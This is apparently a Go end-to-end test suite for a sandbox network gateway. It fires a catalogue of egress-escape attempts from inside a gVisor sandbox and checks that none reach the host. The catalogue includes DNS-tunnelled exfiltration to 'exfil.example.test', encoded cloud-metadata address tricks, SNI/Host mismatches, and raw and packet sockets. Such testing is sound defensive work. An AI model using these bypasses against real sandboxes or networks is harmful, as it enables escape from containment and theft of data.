package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sallyport/internal/test/must"
	"sallyport/internal/test/testnet"
)

// ways are attempts to get a packet to the test host, or to anybody but the
// gateway, from inside a gVisor sandbox as root. Each is Python with the
// helpers below; HOST is the test host, GW the gateway, OTHER another sandbox.
var ways = []struct{ name, code string }{
	{"TCP to a bare address", `tcp(HOST, 443)`},
	{"TCP to a bare address, odd port", `tcp(HOST, 4444, b"hello")`},
	{"TCP to a bare address, TLS with an allowed name", `tls(HOST, "api.example.test")`},
	{"TCP to a bare address, HTTP with an allowed Host", `tcp(HOST, 80, b"GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n")`},
	{"TCP to a denied name", `tls(resolve("denied.example.test"), "denied.example.test")`},
	{"TCP to an unlisted name", `tls(resolve("unlisted.example.test"), "unlisted.example.test")`},
	{"an allowed name's address with another SNI", `tls(resolve("api.example.test"), "unlisted.example.test")`},
	{"an allowed name's address without SNI, another Host", `http_over_tls(resolve("api.example.test"), None, "unlisted.example.test")`},
	{"an allowed name's address with its SNI, another Host", `http_over_tls(resolve("api.example.test"), "api.example.test", "unlisted.example.test")`},
	{"an allowed name on another port", `tls(resolve("api.example.test"), "api.example.test", 8443)`},
	{"an allowed name without TLS", `tcp(resolve("api.example.test"), 80, b"GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n")`},
	{"an allowed name, not HTTP", `tcp(resolve("api.example.test"), 443, b"\x00\x01\x02\x03 hello")`},
	{"UDP to an allowed name", `udp(resolve("api.example.test"), 443)`},
	{"UDP to a bare address", `udp(HOST, 9999)`},
	{"QUIC", `udp(HOST, 443, b"\xc0\x00\x00\x00\x01" + bytes(1200))`},
	{"UDP broadcast", `udp("255.255.255.255", 9999)`},
	{"UDP to the subnet's broadcast address", `udp("10.232.0.255", 9999)`},
	{"UDP multicast", `udp("224.0.0.251", 5353)`},
	{"DNS to another resolver", `udp(HOST, 53, query("api.example.test"))`},
	{"DNS over TCP to another resolver", `tcp(HOST, 53, len(query("x.test")).to_bytes(2, "big") + query("x.test"))`},
	{"DNS to ours for a denied name", `udp(GW, 53, query("denied.example.test"))`},
	{"DNS to ours for a name that carries data", `udp(GW, 53, query("c2VjcmV0.exfil.example.test"))`},
	{"DNS to ours of type TXT", `udp(GW, 53, query("exfil.example.test", 16))`},
	{"ICMP echo", `icmp(HOST)`},
	{"another sandbox, TCP", `tcp(OTHER, 8000)`},
	{"another sandbox, UDP", `udp(OTHER, 8000)`},
	{"another sandbox, ICMP", `icmp(OTHER)`},
	{"the gateway's other ports", `tcp(GW, 22)`},
	{"the gateway's metrics port", `tcp(GW, 9464)`},
	{"the host's own address", `tcp("198.51.100.1", 22)`},
	{"the host's loopback", `tcp("127.0.0.2", 9464)`},
	{"the metadata address", `tcp("169.254.169.254", 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")`},
	{"the metadata address in decimal", `url("http://2852039166/latest/meta-data/")`},
	{"the metadata address in hex", `url("http://0xa9fea9fe/latest/meta-data/")`},
	{"the metadata address in octal", `url("http://0251.0376.0251.0376/latest/meta-data/")`},
	{"the metadata address as IPv4 in IPv6", `tcp6("::ffff:169.254.169.254", 80)`},
	{"IPv6 to a host", `udp6("2001:db8::10", 53)`},
	{"IPv6 to all nodes", `udp6("ff02::1", 9999)`},
	{"a raw IP socket", `raw(HOST)`},
	{"a packet socket", `packet(HOST)`},
}

const wayHelpers = `
import socket, ssl, struct, sys, os
HOST, GW, OTHER = %q, "10.232.0.1", %q
socket.setdefaulttimeout(1)
def tcp(a, p, d=b""):
    s = socket.create_connection((a, p))
    if d: s.sendall(d)
    return s.recv(4096)
def tcp6(a, p):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.connect((a, p)); s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"); return s.recv(4096)
def udp(a, p, d=b"hello"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for i in range(3): s.sendto(d, (a, p))
    return s.recv(4096)
def udp6(a, p):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"hello", (a, p)); return s.recv(4096)
def context():
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; return c
def http_over_tls(a, sni, host, p=443):
    s = context().wrap_socket(socket.create_connection((a, p)), server_hostname=sni)
    s.sendall(("GET / HTTP/1.1\r\nHost: %%s\r\n\r\n" %% host).encode()); return s.recv(4096)
def tls(a, sni, p=443): return http_over_tls(a, sni, sni, p)
def resolve(n): return socket.gethostbyname(n)
def query(n, t=1):
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0" + struct.pack(">2H", t, 1)
def icmp(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (a, 0)); return s.recv(4096)
def raw(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(b"hello", (a, 0)); return b""
def packet(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0)); s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x00" + b"hello" * 20); return b""
def url(u):
    import urllib.request; return urllib.request.urlopen(u).read()
def attempt(n, code):
    try: print(n, "answer:", eval(code))
    except Exception as e: print(n, "error:", e)
import threading
all = [threading.Thread(target=attempt, args=a) for a in enumerate(%s)]
for t in all: t.start()
for t in all: t.join()
`

// attempts is a program that makes attempts to get to somebody, all at once.
func attempts(other string, code ...string) string {
	list, err := json.Marshal(code) // of strings without a slash or a character beyond ASCII, as Python has it too
	if err != nil {
		panic(err)
	}
	return fmt.Sprintf(wayHelpers, upstreamAddress, other, list)
}

// tryWays makes all attempts from a sandbox at once, and where a packet arrives or
// the upstream answers, one after the other, to say which it was.
func tryWays(t *testing.T, r *rig, from, other string, arrived *testnet.Capture) {
	t.Helper()
	try := func(code ...string) (said string) {
		t.Helper()
		before := count(t, arrived)
		res := r.feed(attempts(other, code...), "run", from, "--", "python3", "-")
		if strings.Count(res.stdout, "answer:")+strings.Count(res.stdout, "error:") < len(code) {
			t.Errorf("not all was tried: %s", res)
		}
		t.Logf("from %s: %s", from, res)
		time.Sleep(50 * time.Millisecond) // for what is on its way
		if n := count(t, arrived) - before; n != 0 {
			said = fmt.Sprintf("%d packets arrived: %v\nthe sandbox saw %s", n, arrived.Seen()[before:], res)
		}
		if strings.Contains(res.stdout, "saw_key") {
			said += fmt.Sprintf("the upstream answered: %s", res)
		}
		return said
	}
	var all []string
	for _, w := range ways {
		all = append(all, w.code)
	}
	said := try(all...)
	if said == "" {
		return
	}
	t.Errorf("all at once: %s", said)
	for _, w := range ways {
		if said := try(w.code); said != "" {
			t.Errorf("%s: %s", w.name, said)
		}
	}
}

// Whatever root in the sandbox tries, the test host sees packets of the gateway
// only, and only for allowed requests.
func TestPackets(t *testing.T) {
	r := newRig(t, "")
	r.serve()
	forward(t) // the host would route, if it were let
	r.up()
	r.setKey()
	r.ok("run", "agent", "--", "true")
	r.ok("run", "other", "--", "true")
	other := r.address("other")
	arrived, err := r.host.Capture(nil)
	must.OK(t, err)
	t.Run("gVisor", func(t *testing.T) { tryWays(t, r, "agent", other, arrived) })
	raw := testRawPackets(t, r, arrived) // before the gateway has connections of its own
	t.Run("control: an allowed request arrives, from the gateway", func(t *testing.T) {
		before := count(t, arrived)
		code := `(socket.setdefaulttimeout(20), tls(resolve("api.example.test"), "api.example.test"))[1]`
		if res := r.feed(attempts(other, code), "run", "agent", "--", "python3", "-"); !strings.Contains(res.stdout, "200 OK") {
			t.Errorf("got %s", res)
		}
		frames := arrived.Seen()[before:]
		if len(frames) == 0 {
			t.Error("nothing arrived")
		}
		for _, f := range frames {
			if f.From.Addr().String() != "198.51.100.1" {
				t.Errorf("a packet that is not the gateway's: %v", f)
			}
		}
	})
	r.kill(9)
	unguard(t)
	t.Run("control: unguarded, frames arrive", raw)
	t.Run("control: unguarded, the same packets arrive", func(t *testing.T) {
		for _, code := range []string{`tcp(HOST, 443)`, `udp(HOST, 9999)`, `icmp(HOST)`, `udp(HOST, 53, query("api.example.test"))`} {
			before := count(t, arrived)
			out := r.engineExec("agent", attempts(other, code))
			time.Sleep(50 * time.Millisecond)
			if code == `icmp(HOST)` && strings.Contains(out, "Operation not permitted") {
				continue // the sandbox cannot make the socket: there is nothing to let through
			}
			if count(t, arrived) == before {
				t.Errorf("%s: nothing arrived although nothing guards: the test proves nothing\n%s", code, out)
			}
		}
	})
}

func count(t *testing.T, c *testnet.Capture) int {
	t.Helper()
	n, err := c.Count()
	must.OK(t, err)
	return n
}

// forward makes this network namespace a router.
func forward(t *testing.T) {
	t.Helper()
	must.OK(t, os.WriteFile("/proc/sys/net/ipv4/ip_forward", []byte("1"), 0o644))
}

// unguard takes away what an operator with root could: links, rules, tables.
func unguard(t *testing.T) {
	t.Helper()
	must.OK(t, os.RemoveAll("/sys/fs/bpf/sallyport/spe2e0"))
	out, err := exec.Command("nft", "flush", "ruleset").CombinedOutput() // of this namespace
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	// The datapath's settings of the bridge's ports, back to the kernel's defaults.
	for flag, value := range map[string]string{"learning": "1", "unicast_flood": "1", "multicast_flood": "1", "broadcast_flood": "1", "isolated": "0", "neigh_suppress": "0"} {
		ports, _ := filepath.Glob("/sys/class/net/spe2e0/brif/*/" + flag)
		for _, p := range ports {
			must.OK(t, os.WriteFile(p, []byte(value), 0o644))
		}
	}
}

// address of a sandbox.
func (r *rig) address(name string) string {
	r.t.Helper()
	for line := range strings.Lines(r.ok("sandbox", "ls")) {
		if f := strings.Fields(line); len(f) > 4 && f[0] == name {
			return f[4]
		}
	}
	r.t.Fatalf("no sandbox %q", name)
	return ""
}

// engineExec runs Python in a sandbox past the daemon, through the engine.
func (r *rig) engineExec(name, code string) string {
	r.t.Helper()
	c := r.docker("exec", "-i", r.container(name), "python3", "-")
	c.Stdin = strings.NewReader(code)
	var out bytes.Buffer // what it says is the result
	c.Stdout, c.Stderr = &out, &out
	must.OK(r.t, c.Start())
	// The engine may forget an exec whose container ends, and its client then waits
	// for ever.
	defer time.AfterFunc(engineTime, func() { _ = c.Process.Kill() }).Stop()
	_ = c.Wait()
	return out.String()
}

// engineTime is what engineExec takes at most.
const engineTime = 30 * time.Second

func (r *rig) container(name string) string {
	r.t.Helper()
	out, err := r.docker("ps", "-aq", "--filter", "label=sallyport.name="+name).Output()
	if err != nil || len(strings.Fields(string(out))) != 1 {
		r.t.Fatalf("the container of %s: %q, %v", name, out, err)
	}
	return strings.TrimSpace(string(out))
}

// docker is the plain client on the rig's private engine.
func (r *rig) docker(args ...string) *exec.Cmd {
	return exec.Command("docker", append([]string{"-H", "unix://" + filepath.Join(r.dir, "run/engine/docker.sock")}, args...)...)
}
